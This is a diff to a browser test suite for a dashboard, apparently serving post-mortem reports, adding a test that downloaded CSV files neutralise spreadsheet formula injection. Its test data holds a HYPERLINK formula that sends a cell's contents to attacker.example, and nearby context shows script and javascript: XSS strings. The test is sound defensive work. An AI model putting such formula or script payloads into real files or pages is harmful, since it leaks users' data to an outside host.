@@ -4,12 +4,15 @@ at once while the data reloads, each seeing the numbers of its own filter.
 How fast many viewers are served is measured, not tested: ``benchmarks/viewers.py``."""
 
 import asyncio
+import csv
+import io
 import re
 import shutil
 import sys
 import threading
 import time
 import tomllib
+from pathlib import Path
 from urllib.parse import urlencode
 
 import pytest
@@ -74,6 +77,28 @@ def test_hostile_text_is_shown_as_text_in_the_browser(hostile_server, chromium, 
             text = page.locator('[data-testid="stMain"]').inner_text()
             assert "Checkout down <script>alert(1)</script>" in text, "the title reads as written"
             assert "[click me](javascript:alert(3))" in text
+    finally:
+        page.close()
+
+
+@pytest.mark.parametrize("path, formula", [
+    ("incidents", '=HYPERLINK("http://attacker.example/?"&A1,"open")'),
+    ("action_items", "-2+3"),
+])
+def test_a_downloaded_csv_never_carries_a_live_formula(hostile_server, chromium, path, formula):
+    page = open_page(chromium, f"{hostile_server}/{path}?range=all&as_of={AS_OF}", charts=False)
+    try:
+        cells = []
+        buttons = page.locator('[data-testid="stDownloadButton"] button')
+        buttons.first.wait_for(timeout=WAIT_MS)
+        for index in range(buttons.count()):
+            with page.expect_download(timeout=WAIT_MS) as download:
+                buttons.nth(index).click()
+            rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text())))
+            cells += [cell for row in rows[1:] for cell in row]
+        assert "'" + formula in cells, "the post-mortem's text is there, neutralised"
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or
+                    c.startswith("-") and not c[1:].replace(".", "", 1).isdigit()]
     finally:
         page.close()
 
